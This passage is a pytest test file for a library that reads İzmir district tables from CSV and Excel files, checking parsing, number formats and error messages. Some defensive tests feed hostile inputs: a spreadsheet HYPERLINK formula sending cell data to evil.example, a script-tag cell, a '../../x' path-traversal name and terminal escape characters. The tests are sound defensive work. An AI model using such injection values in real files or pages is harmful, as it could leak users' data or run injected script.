"""Tests for izmir_maps.userdata.table: reading users' own district tables (CSV / .xlsx)."""

from __future__ import annotations

import datetime as dt
import math
import os
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from izmir_maps.data.boundaries import district_matcher
from izmir_maps.errors import DataError, OptionError, UnknownDistrictError
from izmir_maps.text.names import ascii_fold, slugify, turkish_upper
from izmir_maps.text.numbers import format_number
from izmir_maps.userdata.table import (
    UserTable,
    detect_district_column,
    read_user_table,
    validate_user_file,
    validate_user_file_report,
)
from izmir_maps.write import safe_join

MESSY = Path(__file__).parents[1] / "fixtures" / "messy"
MATCHER = district_matcher()
NAMES = [MATCHER.names_by_pcode[p] for p in sorted(MATCHER.names_by_pcode)]
PCODES = sorted(MATCHER.names_by_pcode)


def write(folder: Path, name: str, data: str | bytes, encoding: str = "utf-8") -> Path:
    path = folder / name
    path.write_bytes(data.encode(encoding) if isinstance(data, str) else data)
    return path


def assert_valid(table: UserTable) -> None:
    """The invariants every returned table keeps."""
    frame = table.values
    assert list(frame.columns) == ["pcode", "district", "value", "row"]
    assert frame["pcode"].is_unique
    assert frame["pcode"].tolist() == sorted(frame["pcode"])
    assert set(frame["pcode"]) <= set(PCODES)
    assert all(math.isfinite(v) for v in frame["value"])
    assert frame["value"].dtype == "float64" and frame["row"].dtype == "int64"
    assert [MATCHER.names_by_pcode[p] for p in frame["pcode"]] == frame["district"].tolist()
    assert set(table.missing).isdisjoint(frame["district"])
    assert len(table.missing) + len(frame) == len(PCODES)


def one_paragraph(message: str) -> None:
    assert "\n" not in message and "Traceback" not in message


# -- the fixture set (tests/fixtures/messy/README.md) ---------------------------------------------


@dataclass
class Ok:
    """A fixture that reads: these values, this encoding …, exactly these warnings."""

    values: dict[str, float]
    count: int
    encoding: str
    separator: str | None
    decimal: str
    warnings: list[str] = field(default_factory=list)


@dataclass
class Fails:
    """A fixture that raises DataError with exactly this message (FILE = the path)."""

    message: str


NOTE_MISSING = "districts have no value and will be shown as 'no data': "
WRITE_NUMBER = (
    "is not a number. Write it like 1.234,5 or 1234,5 (Turkish) or 1,234.5 (international), "
    "optionally with % or a currency sign; leave the cell empty or write '-' if there is no value."
)
NOT_DISTRICT = (
    "is not a district of İzmir. It matches none of the 30 district names (Aliağa, Balçova … "
    "Urla) or P-codes (TUR035001 … TUR035030). Correct the name (any case, with or without "
    "Turkish letters) or use the P-code."
)
NEGATIVE = (
    "is negative, and values here cannot be. Correct it, or allow negative values with the "
    "allow_negative option."
)
WIDE = (
    "the header has 2 columns (extra: {}). If numbers use a decimal comma, the file must be "
    "';'-separated or the numbers quoted (\"4,14\"); otherwise remove the extra cells or name "
    "their column."
)


def missing_note(
    n: int, notes: dict[str, str] | None = None, shown: list[str] | None = None
) -> str:
    notes = notes or {}
    names = [f"{x} ({notes[x]})" if x in notes else x for x in NAMES if x not in (shown or [])]
    assert len(names) == n
    return f"{n} {NOTE_MISSING}{', '.join(names)}."


CASES: list[tuple[str, dict, Ok | Fails]] = [
    (
        "calisan_cp1254_semicolon.csv",
        {"column": "Çalışan Sayısı"},
        Ok(
            {"Çiğli": 39234, "Aliağa": 73418},
            30,
            "cp1254",
            ";",
            ",",
            [
                "Row 32 ('TOPLAM') looks like a totals row and was skipped; the map shows districts only."
            ],
        ),
    ),
    (
        "calisan_cp1254_semicolon.csv",
        {"column": "Pay (%)"},
        Ok(
            {"Aliağa": 4.77},
            30,
            "cp1254",
            ";",
            ",",
            [
                "Row 32 ('TOPLAM') looks like a totals row and was skipped; the map shows districts only."
            ],
        ),
    ),
    (
        "calisan_cp1254_semicolon.csv",
        {"column": "Calisan"},
        Fails(
            "FILE, row 1: there is no column 'Calisan'. The columns are: 'İlçe', 'Çalışan Sayısı', "
            "'Pay (%)'. Did you mean 'Çalışan Sayısı'? Give the exact name with the column option."
        ),
    ),
    (
        "firma_utf8_bom.csv",
        {"column": "Firma Sayısı"},
        Ok({"Aliağa": 925, "Balçova": 462}, 30, "utf-8-sig", ",", ","),
    ),
    (
        "firma_utf8_bom.csv",
        {"column": "Firma Sayısı", "encoding": "cp1254"},
        Fails(
            "FILE, row 1: there is no column 'Firma Sayısı'. The columns are: 'ï»¿Ä°lÃ§e', "
            "'Firma SayÄ±sÄ±'. Did you mean 'Firma SayÄ±sÄ±'? The text looks garbled, as when a "
            "file is read with the wrong encoding: choose encoding 'auto', or the file's own "
            "('utf-8' or 'cp1254'). Give the exact name with the column option."
        ),
    ),
    (
        "nufus_ascii_upper.csv",
        {"column": "NUFUS"},
        Ok({"Aliağa": 47488, "Balçova": 206849}, 30, "utf-8", ",", ","),
    ),
    (
        "oran_pcodes.csv",
        {"column": "oran"},
        Ok({"Aliağa": 7.16, "Balçova": 9.14}, 30, "utf-8", ",", "."),
    ),
    (
        "osb_tab.txt",
        {"column": "OSB Sayısı"},
        Ok({"Aliağa": 4, "Balçova": 1}, 30, "utf-8", "\t", ","),
    ),
    (
        "exports_international.csv",
        {"column": "Exports (USD)"},
        Ok({"Aliağa": 53658034.93, "Balçova": 42903652.57}, 30, "utf-8", ",", "."),
    ),
    (
        "typos.csv",
        {"column": "Girişimci Sayısı"},
        Fails(
            "FILE: 2 problems. (1) row 2, column 'İlçe': 'Aliğa' is not a district of İzmir. "
            "Did you mean 'Aliağa'? Correct the name (any case, with or without Turkish letters) "
            "or use the P-code. (2) row 4, column 'İlçe': 'Bornava' is not a district of İzmir. "
            "Did you mean 'Bornova'? Correct the name (any case, with or without Turkish letters) "
            "or use the P-code. Fix them and run again."
        ),
    ),
    (
        "duplicates.csv",
        {"column": "deger"},
        Fails(
            "FILE, row 2, column 'ilce': rows 2 and 5 both name Aliağa ('Aliağa', 'ALIAGA'). "
            "Keep one row per district."
        ),
    ),
    (
        "totals_rows.csv",
        {"column": "Kayıtlı İşsiz"},
        Ok(
            {"Konak": 12480, "Karabağlar": 10115, "Buca": 9870},
            3,
            "utf-8",
            ";",
            ",",
            [
                "Row 5 ('İzmir') looks like a totals row and was skipped; the map shows districts only.",
                "Row 6 ('Genel Toplam') looks like a totals row and was skipped; the map shows "
                "districts only.",
                missing_note(27, shown=["Konak", "Karabağlar", "Buca"]),
            ],
        ),
    ),
    (
        "negative_value.csv",
        {"column": "Nüfus Değişimi (%)"},
        Fails(
            f"FILE: 2 problems. (1) row 2 (Konak), column 'Nüfus Değişimi (%)': '-1,8' {NEGATIVE} "
            f"(2) row 5 (Karabağlar), column 'Nüfus Değişimi (%)': '−0,3' {NEGATIVE} Fix them and "
            "run again."
        ),
    ),
    (
        "negative_value.csv",
        {"column": "Nüfus Değişimi (%)", "allow_negative": True},
        Ok(
            {"Konak": -1.8, "Buca": 2.4, "Bornova": 0.9, "Karabağlar": -0.3},
            4,
            "utf-8",
            ";",
            ",",
            [missing_note(26, shown=["Konak", "Buca", "Bornova", "Karabağlar"])],
        ),
    ),
    (
        "non_numeric.csv",
        {"column": "İhracat"},
        Fails(
            f"FILE: 3 problems. (1) row 3 (Bergama), column 'İhracat': '12a' {WRITE_NUMBER} (2) "
            f"row 4 (Dikili), column 'İhracat': 'bilinmiyor' {WRITE_NUMBER} (3) row 5 (Foça), "
            "column 'İhracat': "
            "'#DIV/0!' is an Excel error value; fix the formula or leave the cell empty. Fix "
            "them and run again."
        ),
    ),
    (
        "missing_districts.csv",
        {"column": "Destek Tutarı (TL)"},
        Ok(
            {"Bergama": 125000, "Ödemiş": 310500},
            2,
            "utf-8",
            ";",
            ",",
            [
                missing_note(
                    28,
                    {"Kınık": "row 3: '-'", "Kiraz": "row 4: empty", "Tire": "row 6: 'yok'"},
                    shown=["Bergama", "Ödemiş"],
                )
            ],
        ),
    ),
    (
        "ambiguous_thousands.csv",
        {"column": "Çalışan"},
        Ok(
            {"Çiğli": 39234, "Karşıyaka": 27225, "Urla": 8118, "Foça": 950},
            4,
            "utf-8",
            ",",
            ",",
            [
                "Column 'Çalışan': numbers such as '39.234' in row 2 (Çiğli) were read the "
                "Turkish way, as "
                "39234 ('.' separates thousands, ',' marks decimals), because nothing in the "
                "column shows which mark is the decimal one. If '.' is the decimal mark, choose "
                "decimal='.'.",
                missing_note(26, shown=["Çiğli", "Karşıyaka", "Urla", "Foça"]),
            ],
        ),
    ),
    (
        "ambiguous_thousands.csv",
        {"column": "Çalışan", "decimal": "."},
        Ok(
            {"Çiğli": 39.234, "Karşıyaka": 27.225, "Urla": 8.118, "Foça": 950},
            4,
            "utf-8",
            ",",
            ".",
            [missing_note(26, shown=["Çiğli", "Karşıyaka", "Urla", "Foça"])],
        ),
    ),
    (
        "mixed_formats.csv",
        {"column": "Oran"},
        Fails(
            "FILE, column 'Oran': the column mixes Turkish numbers (decimal comma: '4,14' in row 2 "
            "(Aliağa), '2,5' in row 3 (Balçova)) and international numbers (decimal point: '4.14' "
            "in row 4 (Bayındır)). Write every "
            "number the same way, or choose the format with the decimal option (',' Turkish, "
            "'.' international)."
        ),
    ),
    (
        "injection.csv",
        {"column": "../../x"},
        Fails(
            "FILE: 2 problems. (1) row 2, column 'İlçe': "
            f"""'=HYPERLINK("http://evil.example/?q="&A1;"Konak")' {NOT_DISTRICT} """
            f"(2) row 3, column 'İlçe': '<script>alert(1)</script>' {NOT_DISTRICT} "
            "Fix them and run again."
        ),
    ),
    (
        "injection_column_name.csv",
        {"column": "../../x"},
        Ok(
            {"Konak": 5, "Buca": 7},
            2,
            "utf-8",
            ",",
            ",",
            [missing_note(28, shown=["Konak", "Buca"])],
        ),
    ),
    (
        "empty.csv",
        {"column": "Değer"},
        Fails("FILE: the file is empty (0 bytes). Save the district table into it."),
    ),
    (
        "header_only.csv",
        {"column": "Çalışan Sayısı"},
        Fails(
            "FILE: the file has a header (row 1) but no rows below it. Add one row per district."
        ),
    ),
    (
        "districts.json",
        {"column": "deger"},
        Fails(
            "FILE: unreadable file type: izmir-maps reads district tables saved as CSV (.csv, "
            ".tsv or .txt, with ',', ';' or tab between the columns) or as Excel workbooks "
            "(.xlsx), not .json files. Export the table (one row per district) as CSV or .xlsx."
        ),
    ),
    (
        "decimal_comma_unquoted.csv",
        {"column": "Ortalama Ücret"},
        Fails(
            "FILE: 2 problems. (1) row 2 (Konak): the row has 3 cells but "
            + WIDE.format("'5'")
            + " (2) row 4 (Bornova): the row has 3 cells but "
            + WIDE.format("'2'")
            + " Fix them and run again."
        ),
    ),
    (
        "title_and_note_rows.csv",
        {"column": "Firma"},
        Ok(
            {"Aliağa": 1204, "Bornova": 5310},
            2,
            "utf-8",
            ";",
            ",",
            [
                "The header is row 3 (it holds the column 'Firma'); the rows above it were "
                "skipped: 'İzmir İli İlçelere Göre Firma Sayısı, 2023'.",
                "Row 6 ('Kaynak: TÜİK, İş Kayıtları') is not a district and has no values; it was "
                "skipped as a title or note.",
                missing_note(28, shown=["Aliağa", "Bornova"]),
            ],
        ),
    ),
]


@pytest.mark.parametrize(
    ("name", "options", "expected"),
    CASES,
    ids=[f"{name}-{'-'.join(map(str, opts.values()))}" for name, opts, _ in CASES],
)
def test_messy_fixture(name: str, options: dict, expected: Ok | Fails) -> None:
    path = MESSY / name
    if isinstance(expected, Fails):
        with pytest.raises(DataError) as info:
            read_user_table(path, **options)
        assert str(info.value) == expected.message.replace("FILE", str(path))
        one_paragraph(str(info.value))
        return
    table = read_user_table(path, **options)
    assert_valid(table)
    by_name = dict(zip(table.values["district"], table.values["value"], strict=True))
    for district, value in expected.values.items():
        assert by_name[district] == pytest.approx(value)
    assert len(table.values) == expected.count
    assert (table.encoding, table.separator, table.decimal) == (
        expected.encoding,
        expected.separator,
        expected.decimal,
    )
    assert table.warnings == expected.warnings
    assert table.column == options["column"]


def test_every_fixture_is_documented_and_tested() -> None:
    readme = (MESSY / "README.md").read_text(encoding="utf-8")
    files = sorted(p.name for p in MESSY.iterdir() if p.name != "README.md")
    tested = {name for name, _, _ in CASES}
    for name in files:
        assert f"`{name}`" in readme, f"{name} is not described in messy/README.md"
        assert name in tested, f"{name} has no case in CASES"


def test_fixture_bytes_are_what_the_readme_says() -> None:
    cp1254 = (MESSY / "calisan_cp1254_semicolon.csv").read_bytes()
    with pytest.raises(UnicodeDecodeError):
        cp1254.decode("utf-8")
    assert b"\r\n" in cp1254 and "Çiğli;39.234".encode("cp1254") in cp1254
    assert (MESSY / "firma_utf8_bom.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    assert (MESSY / "nufus_ascii_upper.csv").read_bytes().isascii()
    assert (MESSY / "empty.csv").stat().st_size == 0


def test_validate_lists_the_same_problems_as_lines() -> None:
    path = MESSY / "typos.csv"
    problems = validate_user_file(path)
    assert problems == [
        f"{path}, row 2, column 'İlçe': 'Aliğa' is not a district of İzmir. Did you mean "
        "'Aliağa'? Correct the name (any case, with or without Turkish letters) or use the P-code.",
        f"{path}, row 4, column 'İlçe': 'Bornava' is not a district of İzmir. Did you mean "
        "'Bornova'? Correct the name (any case, with or without Turkish letters) or use the P-code.",
    ]


@pytest.mark.parametrize(
    ("name", "options"), [(n, o) for n, o, e in CASES if isinstance(e, Ok)], ids=lambda x: str(x)
)
def test_validate_is_clean_for_every_readable_fixture(name: str, options: dict) -> None:
    assert validate_user_file(MESSY / name, **options) == []


def test_validate_without_column_checks_every_numeric_column(tmp_path: Path) -> None:
    path = write(
        tmp_path,
        "t.csv",
        "İlçe;Firma;Pay;Not\nKonak;1.204;%4,1;geçici\nBuca;x;-2;\nKonak;5;3;\n",
    )
    report = validate_user_file_report(path)
    assert report.columns == ["Firma", "Pay"]
    assert report.district_column == "İlçe"
    assert [p.removeprefix(f"{path}, ") for p in report.problems] == [
        "row 2, column 'İlçe': rows 2 and 4 both name Konak ('Konak', 'Konak'). Keep one row "
        "per district.",
        f"row 3 (Buca), column 'Firma': 'x' {WRITE_NUMBER}",
        f"row 3 (Buca), column 'Pay': '-2' {NEGATIVE}",
    ]
    assert report.warnings[0].startswith("Column 'Firma': 29 districts have no value")


def test_validate_reports_everything_it_can_at_once(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", "a;b\nfoo;1\nbar;2,5\n")
    problems = validate_user_file(path, column="c")
    assert len(problems) == 2
    assert "there is no column 'c'" in problems[0]
    assert "no column names the districts" in problems[1]


# -- files generated here: Excel, UTF-16, size limits ---------------------------------------------


def make_xlsx(
    folder: Path, rows: list[list[object]], *, name: str = "t.xlsx", **formats: str
) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Veri"
    for row in rows:
        sheet.append(row)
    for cell, number_format in formats.items():
        sheet[cell].number_format = number_format
    path = folder / name
    book.save(path)
    return path


def test_xlsx_numbers_percentages_and_text_numbers(tmp_path: Path) -> None:
    path = make_xlsx(
        tmp_path,
        [
            ["İlçe", "Çalışan", "Pay"],
            ["Çiğli", 39234, 0.0414],
            ["KARSIYAKA", "27.225", 0.5],
            ["Buca", 12.5, None],
            [None, None, None],
            ["Toplam", 100, 1],
        ],
        C2="0.00%",
        C3="0%",
    )
    table = read_user_table(path, column="Çalışan")
    assert_valid(table)
    assert table.values["value"].tolist() == [12.5, 39234.0, 27225.0]
    assert (table.encoding, table.separator) == ("xlsx", None)
    share = read_user_table(path, column="Pay")
    assert share.values.set_index("district")["value"].to_dict() == {
        "Çiğli": 4.14,
        "Karşıyaka": 50.0,
    }
    assert "Buca (row 4: empty)" in share.warnings[-1]


def test_xlsx_cells_that_are_not_numbers(tmp_path: Path) -> None:
    path = make_xlsx(
        tmp_path,
        [
            ["İlçe", "v"],
            ["Urla", dt.datetime(2024, 1, 1)],
            ["Konak", True],
            ["Bornova", "=SUM(1,2)"],
            ["Buca", "#N/A"],
        ],
    )
    with pytest.raises(DataError) as info:
        read_user_table(path, column="v")
    message = str(info.value)
    assert "4 problems" in message
    assert (
        "row 2 (Urla), column 'v': '2024-01-01 00:00:00' is a date or time, not a number."
        in message
    )
    assert "row 3 (Konak), column 'v': 'True' is a true/false value, not a number." in message
    assert (
        "row 4 (Bornova), column 'v': '=SUM(1,2)' is an Excel formula whose result is not saved in the "
        "file; open the file in Excel and save it, or replace the formula by its value." in message
    )
    assert "row 5 (Buca), column 'v': '#N/A' is an Excel error value" in message


def test_xlsx_sheets(tmp_path: Path) -> None:
    path = make_xlsx(tmp_path, [["ilce", "v"], ["Buca", 1]])
    book = openpyxl.load_workbook(path)
    other = book.create_sheet("İkinci")
    other.append(["ilce", "w"])
    other.append(["Urla", 2])
    book.save(path)
    first = read_user_table(path, column="v")
    assert first.warnings[0] == (
        "The workbook has 2 sheets ('Veri', 'İkinci'); the first, 'Veri', was read. Choose "
        "another with the sheet option."
    )
    assert read_user_table(path, column="w", sheet="İkinci").values["district"].tolist() == ["Urla"]
    assert read_user_table(path, column="w", sheet=1).values["value"].tolist() == [2.0]
    assert read_user_table(path, column="w", sheet="1").values["value"].tolist() == [2.0]
    with pytest.raises(
        DataError, match=r"there is no sheet 'Sayfa1'; the sheets are 'Veri', 'İkinci'\."
    ):
        read_user_table(path, column="v", sheet="Sayfa1")
    with pytest.raises(DataError, match=r"there is no sheet number 7 \(counting from 0\)"):
        read_user_table(path, column="v", sheet=7)


@pytest.mark.parametrize(
    ("name", "data", "pattern"),
    [
        ("t.xlsx", b"not a zip", r"the file is not a valid Excel workbook"),
        (
            "t.csv",
            b"PK\x03\x04rest",
            r"this is an Excel workbook \(or another zip file\) with a \.csv name",
        ),
        (
            "t.xls",
            b"\xd0\xcf\x11\xe0",
            r"unreadable file type: .* not \.xls files\. Open it in Excel",
        ),
        ("t.ods", b"x", r"not \.ods files\. Open it in LibreOffice"),
        (
            "t.csv",
            b"\xd0\xcf\x11\xe0\x00",
            r"this is an old Excel \.xls workbook with a \.csv name",
        ),
        ("t.csv", b"ilce,v\x00\nBuca,1\n", r"the file holds binary data \(NUL characters\)"),
        (
            "t.csv",
            b"ilce;v\nBuca;1\n\x81;2\n",
            r"row 3: byte 0x81 cannot be read as either UTF-8 or Windows-1254",
        ),
        ("t.csv", b" \n\n \n", r"the file is empty \(no text\)"),
        ("t.csv", b";;\n\n", r"the file has no rows"),
        (
            "t.txt",
            "Bu bir not dosyası.\nİlçe yok.\n".encode(),
            r"t\.txt: the table has a single column: no comma, semicolon or tab separates its "
            r"columns in any of its 2 non-blank lines",
        ),
        ("t", b"ilce,v\n", r"not files without an extension"),
    ],
)
def test_unreadable_files(tmp_path: Path, name: str, data: bytes, pattern: str) -> None:
    path = write(tmp_path, name, data)
    with pytest.raises(DataError, match=pattern) as info:
        read_user_table(path, column="v")
    assert str(info.value).startswith(str(path))
    one_paragraph(str(info.value))
    assert validate_user_file(path) == [str(info.value)]


def test_damaged_xlsx_is_a_data_error(tmp_path: Path) -> None:
    import zipfile

    path = tmp_path / "t.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "x")
    with pytest.raises(DataError) as info:
        read_user_table(path, column="v")
    assert str(info.value) == (
        f"{path}: the Excel workbook cannot be read (its part '_rels/.rels' is missing or "
        "damaged). Open it in Excel and save it again, or save it as CSV."
    )


def test_missing_file_and_folder(tmp_path: Path) -> None:
    with pytest.raises(DataError, match=r"the file does not exist"):
        read_user_table(tmp_path / "nope.csv", column="v")
    (tmp_path / "d.csv").mkdir()
    with pytest.raises(DataError, match=r"this is a folder, not a file"):
        read_user_table(tmp_path / "d.csv", column="v")
    with pytest.raises(DataError, match=r"is not a usable file name"):
        read_user_table(str(tmp_path / "a\0b.csv"), column="v")
    if hasattr(os, "mkfifo"):
        os.mkfifo(tmp_path / "pipe.csv")
        with pytest.raises(DataError, match=r"this is not a regular file"):
            read_user_table(tmp_path / "pipe.csv", column="v")


def test_a_huge_file_is_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "huge.csv"
    with path.open("w", encoding="utf-8") as out:
        out.write("ilce,v\n")
        out.writelines("Buca,1\n" for _ in range(800_000))
    with pytest.raises(DataError) as info:
        read_user_table(path, column="v")
    size = path.stat().st_size
    assert str(info.value) == (
        f"{path}: the file is far larger than a district table: it has {size:,} bytes, the limit "
        "is 5,000,000 bytes (İzmir has 30 districts, all of Türkiye 973). Check that this is the "
        "right file; if it "
        "is, raise the limit with the max_bytes option."
    )


def test_too_many_rows(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", "ilce,v\n" + "Buca,1\n" * 120)
    with pytest.raises(DataError, match=r"it has 120 rows, the limit is 100 rows"):
        read_user_table(path, column="v", max_rows=100)
    xlsx = make_xlsx(tmp_path, [["ilce", "v"]] + [["Buca", 1]] * 120)
    with pytest.raises(DataError, match=r"it has more than 100 rows, the limit is 100 rows"):
        read_user_table(xlsx, column="v", max_rows=100)


def test_utf16_excel_unicode_text(tmp_path: Path) -> None:
    path = write(tmp_path, "t.txt", "İlçe\tv\r\nÇiğli\t4,5\r\n", encoding="utf-16")
    table = read_user_table(path, column="v")
    assert (table.encoding, table.separator) == ("utf-16", "\t")
    assert table.values["value"].tolist() == [4.5]


def test_explicit_encoding_and_separator(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", "İlçe;v\nÇiğli;4,5\n", encoding="cp1254")
    with pytest.raises(DataError, match=r"row 1: byte 0xDD cannot be read as utf-8 text"):
        read_user_table(path, column="v", encoding="utf-8")
    table = read_user_table(path, column="v", encoding="cp1254", sep=";")
    assert table.values["value"].tolist() == [4.5]
    with pytest.raises(DataError) as info:
        read_user_table(path, column="v", encoding="cp1254", sep="tab")
    assert str(info.value) == (
        f"{path}: the table has a single column: no tab separates its columns in any of its 2 "
        "non-blank lines, so it is not a delimited table. It is ';'-separated: choose "
        "sep='auto' or sep=';'."
    )


@pytest.mark.parametrize(
    ("options", "pattern"),
    [
        (
            {"decimal": "x"},
            r"decimal must be 'auto', ',' \(Turkish\) or '\.' \(international\), not 'x'",
        ),
        ({"sep": "|"}, r"sep must be 'auto', ',', ';' or a tab"),
        ({"encoding": "klingon"}, r"encoding must be 'auto' or a text encoding"),
        ({"encoding": "base64"}, r"encoding must be 'auto' or a text encoding"),
        ({"max_rows": 0}, r"max_rows must be a positive whole number, not 0"),
        ({"max_bytes": True}, r"max_bytes must be a positive whole number"),
        ({"sheet": "Veri"}, r"sheet applies to Excel workbooks only"),
        ({"column": ""}, r"column must be a column name \(a non-empty string\), not ''"),
        ({"district_column": "v"}, r"column and district_column both name the column 'v'"),
    ],
)
def test_bad_options_raise_option_error(tmp_path: Path, options: dict, pattern: str) -> None:
    path = write(tmp_path, "t.csv", "ilce,v\nBuca,1\n")
    options = {"column": "v", **options}
    with pytest.raises(OptionError, match=pattern):
        read_user_table(path, **options)


def test_validate_refuses_the_same_column_twice(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", "ilce,v\nBuca,1\n")
    with pytest.raises(OptionError, match=r"both name the column 'v'"):
        validate_user_file(path, column="v", district_column="v")


def test_a_cell_longer_than_the_csv_limit(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", 'ilce,v\nBuca,"' + "x" * 200_000 + '"\n')
    with pytest.raises(DataError, match=r"row 2: the file cannot be read as a ','-separated table"):
        read_user_table(path, column="v")


def test_column_found_by_spelling_and_district_column_given(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", "Yer;Sıra;ÇALIŞAN SAYISI\nBuca;1;5\nUrla;2;7\n")
    table = read_user_table(path, column="calisan sayisi", district_column="yer")
    assert (table.column, table.district_column) == ("ÇALIŞAN SAYISI", "Yer")
    twice = write(tmp_path, "u.csv", "ilce;Değer;DEĞER\nBuca;1;2\n")
    with pytest.raises(DataError, match=r"the name 'deger' fits 2 columns \('Değer', 'DEĞER'\)"):
        read_user_table(twice, column="deger")
    assert read_user_table(twice, column="DEĞER").values["value"].tolist() == [2.0]


def test_empty_district_cell_with_a_value(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", "ilce;v\nBuca;1\n;5\n;\nUrla;2\n")
    with pytest.raises(DataError) as info:
        read_user_table(path, column="v")
    assert str(info.value) == (
        f"{path}, row 3, column 'ilce': the district cell is empty but column 'v' holds '5'. "
        "Fill in the district name or P-code, or delete the row."
    )


def test_a_column_without_any_value(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", "ilce;v;w\nBuca;;1\nUrla;-;2\n")
    with pytest.raises(DataError, match=r"column 'v': no district has a value"):
        read_user_table(path, column="v")


def test_multiline_cell_from_a_stray_quote(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", 'ilce,v\n"Buca,1\nUrla,2\nKonak,3\n')
    with pytest.raises(DataError, match=r"look for an unmatched double quote"):
        read_user_table(path, column="v", district_column="ilce")


def test_all_missing_tokens_mean_no_value(tmp_path: Path) -> None:
    tokens = ["", "-", "–", "—", "..", "...", "yok", "YOK", "Veri Yok", "n/a", "N/A", "NA", "nan"]
    rows = [f"{NAMES[i]};{t}" for i, t in enumerate(tokens)] + ["Urla;1"]
    path = write(tmp_path, "t.csv", "ilce;v\n" + "\n".join(rows) + "\n")
    table = read_user_table(path, column="v")
    assert table.values["district"].tolist() == ["Urla"]
    assert len(table.missing) == 29


@pytest.mark.parametrize(
    ("cells", "decimal", "expected"),
    [
        (["1.234.567,89", "%4,14", "4,14%"], "auto", [1234567.89, 4.14, 4.14]),
        (["1,234,567.89", "4.14%", "0.5"], "auto", [1234567.89, 4.14, 0.5]),
        (["27.225", "1.000"], "auto", [27225.0, 1000.0]),
        (["27,225", "3"], "auto", [27.225, 3.0]),
        (["27.225", "1.000"], ".", [27.225, 1.0]),
        (["27,225", "1,000"], ".", [27225.0, 1000.0]),
        (
            ["₺1.250", "310.500 TL", "$ 12", "1 234 567"],
            "auto",
            [1250.0, 310500.0, 12.0, 1234567.0],
        ),
        (["+5", "0,0"], ",", [5.0, 0.0]),
    ],
)
def test_number_formats(
    tmp_path: Path, cells: list[str], decimal: str, expected: list[float]
) -> None:
    rows = "".join(f'{NAMES[i]},"{c}"\n' for i, c in enumerate(cells))
    path = write(tmp_path, "t.csv", "ilce,v\n" + rows)
    table = read_user_table(path, column="v", decimal=decimal)  # type: ignore[arg-type]
    assert table.values.sort_values("row")["value"].tolist() == pytest.approx(expected)


@pytest.mark.parametrize(
    ("cell", "decimal", "pattern"),
    [
        (
            "4.14",
            ",",
            r"'4\.14' is not a number in the Turkish \(decimal ','\) format chosen; write it as '4,14'",
        ),
        (
            "1.234,5",
            ".",
            r"'1\.234,5' is not a number in the international \(decimal '\.'\) format chosen; write it as '1,234\.5'",
        ),
        ("1.2.3", "auto", r"'1\.2\.3' is not a number"),
        ("12 34", "auto", r"'12 34' is not a number"),
        ("1e5", "auto", r"'1e5' is not a number"),
        ("inf", "auto", r"'inf' is not a number"),
        ("1" * 400, "auto", r"is too large to be a value"),
    ],
)
def test_numbers_that_are_refused(tmp_path: Path, cell: str, decimal: str, pattern: str) -> None:
    path = write(tmp_path, "t.csv", f'ilce,v\nBuca,"{cell}"\n')
    with pytest.raises(DataError, match=pattern):
        read_user_table(path, column="v", decimal=decimal)  # type: ignore[arg-type]


def test_names_and_paths_from_data_are_only_data(tmp_path: Path) -> None:
    table = read_user_table(MESSY / "injection_column_name.csv", column="../../x")
    assert table.column == "../../x"
    assert slugify(table.column) == "x"
    out = tmp_path / "out"
    assert safe_join(out, slugify(table.column) + ".html").parent == out
    assert sorted(p.name for p in tmp_path.iterdir()) == []  # reading wrote nothing


def test_control_characters_in_messages_are_escaped(tmp_path: Path) -> None:
    path = write(tmp_path, "t.csv", "ilce,v\n\x1b[2JKonak\u202e,5\n")
    with pytest.raises(DataError) as info:
        read_user_table(path, column="v", district_column="ilce")
    assert "\x1b" not in str(info.value) and "\u202e" not in str(info.value)
    assert r"'\x1b[2JKonak\u202e'" in str(info.value)


# -- detect_district_column -----------------------------------------------------------------------


def test_detect_by_values_and_by_name() -> None:
    assert detect_district_column(["Sıra", "Yer", "v"], [[1, "Buca", 5], [2, "URLA", 7]]) == "Yer"
    assert detect_district_column(["ilce_adi", "v"], [["Bucaa", 5]]) == "ilce_adi"
    assert detect_district_column(["pcode", "ad", "v"], [["TUR035008", "Buca", 1]]) == "pcode"
    both = [["Buca", "Konak"], ["Konak", "Urla"]]
    with pytest.raises(DataError, match=r"the columns 'from' and 'to' both name districts"):
        detect_district_column(["from", "to"], both)
    with pytest.raises(DataError, match=r"the columns 'ilçe' and 'district' could each name"):
        detect_district_column(["ilçe", "district"], [["x", "y"]])
    with pytest.raises(
        DataError, match=r"no column names the districts.*The columns are: 'a', 'b'\."
    ):
        detect_district_column(["a", "b"], [["x", 1]], source="t.csv")
    assert detect_district_column(["Yer", "v"], [["Buca", "Urla"]], exclude=["v"]) == "Yer"


# -- properties -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def scratch(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hypothesis")


def read_or_data_error(path: Path, **options: object) -> UserTable | None:
    """The property: a valid table, or DataError; never another exception."""
    try:
        table = read_user_table(path, matcher=MATCHER, **options)  # type: ignore[arg-type]
    except DataError as exc:
        one_paragraph(str(exc))
        return None
    assert_valid(table)
    return table


@given(data=st.binary(max_size=400), suffix=st.sampled_from([".csv", ".txt", ".tsv", ".xlsx"]))
def test_any_bytes_give_a_table_or_a_data_error(scratch: Path, data: bytes, suffix: str) -> None:
    path = write(scratch, "any" + suffix, data)
    read_or_data_error(path, column="v")
    problems = validate_user_file(path, matcher=MATCHER)
    assert all(isinstance(p, str) and p for p in problems)


def spellings(name: str) -> st.SearchStrategy[str]:
    return st.sampled_from([name, turkish_upper(name), ascii_fold(name), ascii_fold(name).upper()])


district_like = st.one_of(
    st.sampled_from(NAMES).flatmap(spellings),
    st.sampled_from(PCODES),
